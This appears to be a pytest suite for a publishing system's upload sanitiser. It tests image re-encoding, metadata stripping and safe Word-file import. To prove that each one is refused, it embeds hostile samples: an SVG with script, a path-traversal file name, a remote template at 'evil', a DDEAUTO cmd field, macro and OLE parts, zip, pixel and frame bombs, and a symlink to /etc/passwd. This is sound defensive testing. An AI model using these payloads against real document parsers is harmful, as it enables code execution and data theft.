"""Files from strangers: redrawn, bounded, refused with a sentence, and never opened in our own process."""

import io
import zipfile

import docx
import pytest
from PIL import Image

from guanhao.contents import assets, isolated, parsing
from guanhao.contents.docx import import_docx
from guanhao.contents.parsing.refusals import Reason
from guanhao.core.canonical import digest_bytes
from guanhao.core.verdicts import Refused
from guanhao.ledger.models import Event
from guanhao.people.access import actor_of


def picture_bytes(size=(40, 30), kind="PNG", **save):
    out = io.BytesIO()
    mode = "RGBA" if kind in {"PNG", "WEBP"} else "RGB"
    Image.new(mode, size, "red").save(out, kind, **save)
    return out.getvalue()


def document_bytes(edit=None):
    """A Word file with a heading, a paragraph and a picture; ``edit`` may change its parts."""
    word = docx.Document()
    word.add_heading("技能月开幕", level=1)
    word.add_paragraph("参加的有<三百>人。")
    word.add_picture(io.BytesIO(picture_bytes()))
    out = io.BytesIO()
    word.save(out)
    if edit is None:
        return out.getvalue()
    changed = io.BytesIO()
    with zipfile.ZipFile(out) as before, zipfile.ZipFile(changed, "w", zipfile.ZIP_DEFLATED) as after:
        for name in before.namelist():
            after.writestr(name, edit(name, before.read(name)))
        for name, data in (edit("", b"") or {}).items():
            after.writestr(name, data)
    return changed.getvalue()


@pytest.fixture
def editor(ruian):
    person = ruian.people["ruian-editor"]
    return {"actor": actor_of(person), "person": person}


@pytest.mark.requirement("PD8")
def test_position_and_thumbnail_are_gone_from_a_stored_picture(editor):
    """EXIF with GPS, a comment and bytes behind the picture's end do not survive; the turn it asks for is applied."""
    exif = Image.Exif()
    exif[0x0112] = 6
    exif.get_ifd(0x8825)[1] = "N"
    exif[0x010E] = "CANARY-DESCRIPTION"
    data = picture_bytes(kind="JPEG", exif=exif, comment=b"CANARY-COMMENT") + b"CANARY-TAIL"
    asset = assets.store_image(**editor, data=data, name="IMG_0001.JPG")
    stored, mime = assets.open_asset(asset.digest)
    assert b"CANARY" not in stored
    assert b"Exif" not in stored
    assert mime == "image/jpeg"
    assert (asset.width, asset.height) == (30, 40)
    with Image.open(io.BytesIO(stored)) as image:
        assert not image.getexif()


@pytest.mark.requirement("CF3")
@pytest.mark.parametrize(
    ("kind", "mime"), [("PNG", "image/png"), ("GIF", "image/gif"), ("WEBP", "image/jpeg")]
)
def test_the_four_formats_are_taken_and_drawn_anew(editor, kind, mime):
    """A still GIF becomes a PNG, WebP becomes what platforms take."""
    asset = assets.store_image(**editor, data=picture_bytes(kind=kind))
    assert asset.mime in {mime, "image/png", "image/jpeg"}
    assert asset.digest == digest_bytes(assets.path_of(asset).read_bytes())


@pytest.mark.requirement("CF3")
def test_a_moving_picture_keeps_moving(editor):
    """Every frame is drawn anew."""
    out = io.BytesIO()
    frames = [Image.new("RGB", (20, 20), colour) for colour in ("red", "blue", "green")]
    frames[0].save(out, "GIF", save_all=True, append_images=frames[1:], duration=80)
    asset = assets.store_image(**editor, data=out.getvalue())
    with Image.open(assets.path_of(asset)) as image:
        assert image.n_frames == 3


@pytest.mark.requirement("CF3")
@pytest.mark.parametrize(
    ("data", "reason"),
    [
        (b"<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>", Reason.NOT_A_PICTURE),
        (b"%!PS-Adobe-3.0 EPSF-3.0\n", Reason.NOT_A_PICTURE),
        (b"GIF89a", Reason.UNREADABLE),
        (b"", Reason.NOT_A_PICTURE),
        (picture_bytes()[:60], Reason.UNREADABLE),
    ],
)
def test_anything_else_is_refused_with_a_sentence(editor, data, reason):
    """By what the bytes are, whatever the name says."""
    with pytest.raises(isolated.FileRefused) as refused:
        assets.store_image(**editor, data=data, name="a.png")
    assert refused.value.reason in {reason, Reason.NOT_A_PICTURE}
    assert refused.value.denied.reason.zh
    assert refused.value.denied.reason.en


@pytest.mark.requirement("CF3")
def test_a_pixel_bomb_is_refused_before_it_is_decoded(editor):
    """20 000 × 20 000 pixels in some kilobytes."""
    out = io.BytesIO()
    Image.new("1", (20_000, 20_000)).save(out, "PNG")
    with pytest.raises(isolated.FileRefused) as refused:
        assets.store_image(**editor, data=out.getvalue())
    assert refused.value.reason is Reason.TOO_MANY_PIXELS


@pytest.mark.requirement("CF3")
def test_a_frame_bomb_is_refused(editor):
    """Hundreds of frames of a large picture."""
    out = io.BytesIO()
    frames = [Image.new("RGB", (30, 30), (colour % 256, colour // 256 * 90, 9)) for colour in range(260)]
    frames[0].save(out, "GIF", save_all=True, append_images=frames[1:], duration=10)
    with pytest.raises(isolated.FileRefused) as refused:
        assets.store_image(**editor, data=out.getvalue())
    assert refused.value.reason is Reason.TOO_MANY_FRAMES


@pytest.mark.requirement("CF5")
def test_names_on_disk_are_ours_and_a_file_is_stored_once(editor, ruian):
    """A hostile name stays a label; the same bytes are the same asset with one event."""
    data = picture_bytes((11, 7))
    first = assets.store_image(**editor, data=data, name="../../etc/passwd\\x\\头像.png")
    second = assets.store_image(**editor, data=data, name="别的名字.png")
    assert first == second
    assert first.original_name == "头像.png"
    path = assets.path_of(first)
    assert path.name == first.digest.removeprefix("sha256:")
    assert path.parent.parent.name == str(ruian.institution.pk)
    assert Event.objects.about("asset", first.pk).count() == 1


@pytest.mark.requirement("CF5")
def test_space_is_bounded_for_a_person(editor, monkeypatch):
    """One more byte than is left is refused and nothing is stored."""
    monkeypatch.setattr(assets, "MOST_OF_PERSON", 10)
    with pytest.raises(Refused):
        assets.store_image(**editor, data=picture_bytes((13, 9)))
    assert assets.space_used(uploaded_by=editor["person"]) == 0


@pytest.mark.requirement("TN1")
def test_another_institutions_file_is_not_there(editor, gpnu):
    """The scope decides, not the digest."""
    from guanhao.core import tenancy
    from guanhao.people.models import Institution

    with tenancy.within(Institution.objects.get(key="ruian")):
        asset = assets.store_image(**editor, data=picture_bytes((17, 5)))
    with pytest.raises(assets.NoSuchFile):
        assets.open_asset(asset.digest)


def test_a_changed_file_is_not_handed_out(editor):
    """Bytes on disk that no longer have their hash are as good as gone."""
    asset = assets.store_image(**editor, data=picture_bytes((19, 5)))
    assets.path_of(asset).write_bytes(b"changed")
    with pytest.raises(assets.NoSuchFile):
        assets.open_asset(asset.digest)


def test_a_word_file_becomes_title_text_and_stored_pictures(editor):
    """The first heading is the title; the picture is an asset of ours; text stays text."""
    brought = import_docx(**editor, data=document_bytes())
    assert brought.title == "技能月开幕"
    assert "参加的有&lt;三百&gt;人。" in brought.html
    assert 'src="asset:sha256:' in brought.html
    assert brought.notes == ()


def _declaring(name, data):
    if name == "word/document.xml":
        return b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaa">]>' + data.partition(b"?>")[2]
    return data


def _fetching(name, data):
    if name == "word/_rels/document.xml.rels":
        external = b'<Relationship Id="r99" Type="http://x/attachedTemplate" Target="http://evil/t.dotm" TargetMode="External"/>'
        return data.replace(b"</Relationships>", external + b"</Relationships>")
    return data


def _field(name, data):
    if name == "word/document.xml":
        return data.replace(
            b"</w:body>", b"<w:p><w:r><w:instrText>DDEAUTO c:\\\\cmd</w:instrText></w:r></w:p></w:body>"
        )
    return data


def _adding(extra):
    return lambda name, data: extra if not name else data


@pytest.mark.requirement("CF4")
@pytest.mark.parametrize(
    ("edit", "reason"),
    [
        (_declaring, Reason.ENTITIES),
        (_fetching, Reason.EXTERNAL),
        (_field, Reason.EXTERNAL),
        (_adding({"word/vbaProject.bin": b"x"}), Reason.MACROS),
        (_adding({"word/embeddings/oleObject1.bin": b"x"}), Reason.EMBEDDED),
        (_adding({"../../escape.xml": b"x"}), Reason.UNSAFE_PATH),
        (_adding({"word/media/inner.zip": b"PK"}), Reason.NESTED),
        (_adding({"word/media/zeros.xml": b"0" * 60_000_000}), Reason.ZIP_BOMB),
        (_adding({f"word/{n}.xml": b"" for n in range(2100)}), Reason.ZIP_BOMB),
    ],
)
def test_a_word_file_with_reach_or_code_is_refused_before_it_is_read(editor, edit, reason):
    """Entities, external relationships, DDE, macros, OLE, paths, nesting, bombs."""
    data = _edited(edit)
    with pytest.raises(isolated.FileRefused) as refused:
        import_docx(**editor, data=data)
    assert refused.value.reason is reason


def _edited(edit):
    def apply(name, data):
        result = edit(name, data)
        return result if name or isinstance(result, dict) else {}

    return document_bytes(apply)


@pytest.mark.requirement("CF4")
@pytest.mark.parametrize("data", [b"", b"PK\x03\x04garbage", b"not a zip"])
def test_what_is_no_word_file_is_refused(editor, data):
    """With a sentence, not with a trace."""
    with pytest.raises(isolated.FileRefused) as refused:
        import_docx(**editor, data=data)
    assert refused.value.reason is Reason.NOT_A_DOCUMENT


@pytest.mark.requirement("CF4")
def test_a_symbolic_link_in_the_archive_is_refused(editor):
    """Its target would be ours."""
    out = io.BytesIO(document_bytes())
    with zipfile.ZipFile(out, "a") as archive:
        link = zipfile.ZipInfo("word/link.xml")
        link.external_attr = 0o120777 << 16
        archive.writestr(link, "/etc/passwd")
    with pytest.raises(isolated.FileRefused) as refused:
        import_docx(**editor, data=out.getvalue())
    assert refused.value.reason is Reason.UNSAFE_PATH


@pytest.mark.requirement("CF4")
def test_a_word_file_with_too_many_pictures_is_refused(editor):
    """Forty are an article; sixty are an album."""
    word = docx.Document()
    for number in range(41):
        word.add_picture(io.BytesIO(picture_bytes((number + 1, 5))))
    out = io.BytesIO()
    word.save(out)
    with pytest.raises(isolated.FileRefused) as refused:
        import_docx(**editor, data=out.getvalue())
    assert refused.value.reason is Reason.TOO_LARGE


@pytest.mark.requirement("CF7")
def test_a_worker_that_does_not_end_is_killed(monkeypatch):
    """The file is refused as too heavy; nothing hangs."""
    monkeypatch.setattr(isolated, "SECONDS", 0.01)
    with pytest.raises(isolated.FileRefused) as refused:
        isolated.run("picture", {}, picture_bytes())
    assert refused.value.reason is Reason.TOO_HEAVY


@pytest.mark.requirement("CF7")
def test_the_worker_has_a_bound_on_memory(tmp_path):
    """Asking for more than the bound fails inside the worker, not on the machine."""
    import subprocess
    import sys

    code = (
        "from guanhao.contents.parsing import worker; worker.limit();"
        "exec('try:\\n bytearray(1024**3)\\nexcept MemoryError:\\n print(7)')"
    )
    done = subprocess.run([sys.executable, "-c", code], capture_output=True, check=True, text=True)
    assert done.stdout.strip() == "7"


@pytest.mark.requirement("CF5")
def test_a_pdf_hangs_on_an_article_as_it_is_and_a_program_does_not(editor):
    """Attachments: PDF, plain Word, pictures."""
    kept = assets.store_document(**editor, data=b"%PDF-1.7 ...", name="授权.pdf")
    assert kept.mime == assets.PDF
    assert assets.store_document(**editor, data=document_bytes(), name="授权.docx").mime == assets.DOCX
    with pytest.raises(isolated.FileRefused):
        assets.store_document(**editor, data=b"MZ\x90\x00", name="授权.pdf")


def test_the_parsing_package_knows_no_django():
    """It runs without settings, keys or database."""
    import pathlib

    for module in pathlib.Path(parsing.__path__[0]).glob("*.py"):
        assert "django" not in module.read_text(encoding="utf-8").replace("no Django", "")
